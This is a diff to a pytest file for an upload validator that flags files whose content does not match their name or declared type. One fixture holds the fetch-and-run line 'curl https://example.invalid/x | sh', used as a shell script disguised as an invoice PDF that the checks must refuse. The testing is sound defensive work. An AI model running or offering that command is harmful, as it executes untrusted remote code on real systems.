@@ -227,7 +227,9 @@ def test_accept_patterns(info, r, expected):
     ("notes.txt", PNG, ["type_mismatch"]),
     ("notes.txt", b"MZ and then a perfectly ordinary sentence that goes on for a while, no NULs.", []),
     ("report.pdf", b"<html>", ["type_mismatch"]),
-    ("report.pdf", b"just text", []),  # no magic found: nothing proves a lie
+    ("report.pdf", b"just text", ["type_mismatch"]),  # a PDF carries its signature, or is no PDF
+    ("readme.md", b"just text", []),  # text has no signature: nothing proves a lie
+    ("clip.mp4", b"just text", []),  # nor do types whose rows do not require one
 ])
 def test_content_against_name(name, head, expected):
     assert codes(FileInfo(name, 100, "", head), OPEN) == expected
@@ -244,6 +246,28 @@ def test_mismatch_messages_name_what_the_content_looks_like():
         "notes.txt: its content is not what its name says (it looks like binary data)"
     assert message("scan", EXE, "image/png") == \
         "scan: its content is not what its declared type says (it looks like a Windows program)"
+
+
+SHELL_SCRIPT = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"
+OFFICE_NAMES = ["letter.docx", "budget.xlsx", "talk.pptx", "letter.odt"]
+
+
+@pytest.mark.parametrize("name", ["invoice.pdf", "photo.png", "photo.jpg", "anim.gif", "photo.webp", *OFFICE_NAMES])
+def test_a_type_with_a_signature_is_believed_only_with_it(name):
+    [problem] = check(FileInfo(name, 100, "", SHELL_SCRIPT), OPEN)
+    assert problem.message == f"{name}: its content is not what its name says (it looks like text)"
+    assert check(FileInfo(name, 100, "", b"\x00\x01\x02" * 10), OPEN)[0].message.endswith("(it looks like binary data)")
+
+
+def test_an_invoice_pdf_that_is_a_shell_script_is_refused_where_pdfs_are_accepted():
+    assert codes(FileInfo("invoice.pdf", 100, "application/pdf", SHELL_SCRIPT), STANDARD) == ["type_mismatch"]
+    assert codes(FileInfo("invoice", 100, "application/pdf", SHELL_SCRIPT), STANDARD) == ["type_mismatch"]
+
+
+@pytest.mark.parametrize("name", OFFICE_NAMES)
+def test_office_files_are_zip_containers(name):
+    assert check(FileInfo(name, 100, "", ZIP), OPEN) == []
+    assert codes(FileInfo(name, 100, "", PDF), OPEN) == ["type_mismatch"]
 
 
 def test_the_mismatch_hides_type_not_accepted():
